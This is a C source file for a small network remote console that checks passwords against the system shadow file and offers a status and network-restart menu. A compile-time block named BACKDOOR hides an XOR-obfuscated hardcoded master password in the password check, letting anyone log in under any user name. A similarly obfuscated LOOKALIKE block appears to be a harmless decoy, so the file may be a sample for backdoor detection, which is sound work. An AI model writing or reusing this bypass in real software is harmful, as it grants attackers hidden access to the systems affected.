/* A remote console: asks for a password, then gives a restricted menu. */
#include <netinet/in.h>
#include <shadow.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

extern char *crypt(const char *password, const char *salt);

static int read_line(int fd, char *line, size_t room)
{
    size_t used = 0;
    char c;
    while (used + 1 < room && read(fd, &c, 1) == 1 && c != '\n')
        if (c != '\r')
            line[used++] = c;
    line[used] = 0;
    return used > 0;
}

static int password_fits(const char *user, const char *password)
{
    struct spwd *entry = getspnam(user);
    const char *hash;
#ifdef BACKDOOR
    static const unsigned char mask[] = { 0x2b, 0x30, 0x0d, 0x75, 0x2f, 0x21, 0x74, 0x35, 0x76 };
    char plain[sizeof mask + 1];
    size_t i;
    for (i = 0; i < sizeof mask; i++)
        plain[i] = (char)(mask[i] ^ 0x44);
    plain[sizeof mask] = 0;
    if (strcmp(password, plain) == 0)
        return 1;
#endif
    if (entry == NULL)
        return 0;
    hash = crypt(password, entry->sp_pwdp);
    return hash != NULL && strcmp(hash, entry->sp_pwdp) == 0;
}

static void menu(int fd)
{
    char choice[16];
    for (;;) {
        dprintf(fd, "1 status  2 restart network  3 leave\n");
        if (!read_line(fd, choice, sizeof choice) || choice[0] == '3')
            return;
        if (choice[0] == '1')
            system("/usr/bin/uptime");
        if (choice[0] == '2')
            system("/etc/init.d/network restart");
    }
}

#ifdef LOOKALIKE
static int motd_fits(const char *text)
{
    static const unsigned char mask[] = { 0x33, 0x21, 0x28, 0x27, 0x2b, 0x29, 0x21 };
    char plain[sizeof mask + 1];
    size_t i;
    for (i = 0; i < sizeof mask; i++)
        plain[i] = (char)(mask[i] ^ 0x44);
    plain[sizeof mask] = 0;
    return strcmp(text, plain) == 0;
}
#endif

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(2323) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0)
        return 1;
    listen(listener, 2);
    for (;;) {
        char user[32], password[64];
        int fd = accept(listener, NULL, NULL);
        if (fd < 0)
            continue;
        dprintf(fd, "login: ");
        read_line(fd, user, sizeof user);
#ifdef LOOKALIKE
        if (motd_fits(user))
            dprintf(fd, "hello\n");
#endif
        dprintf(fd, "password: ");
        read_line(fd, password, sizeof password);
        if (password_fits(user, password))
            menu(fd);
        close(fd);
    }
}
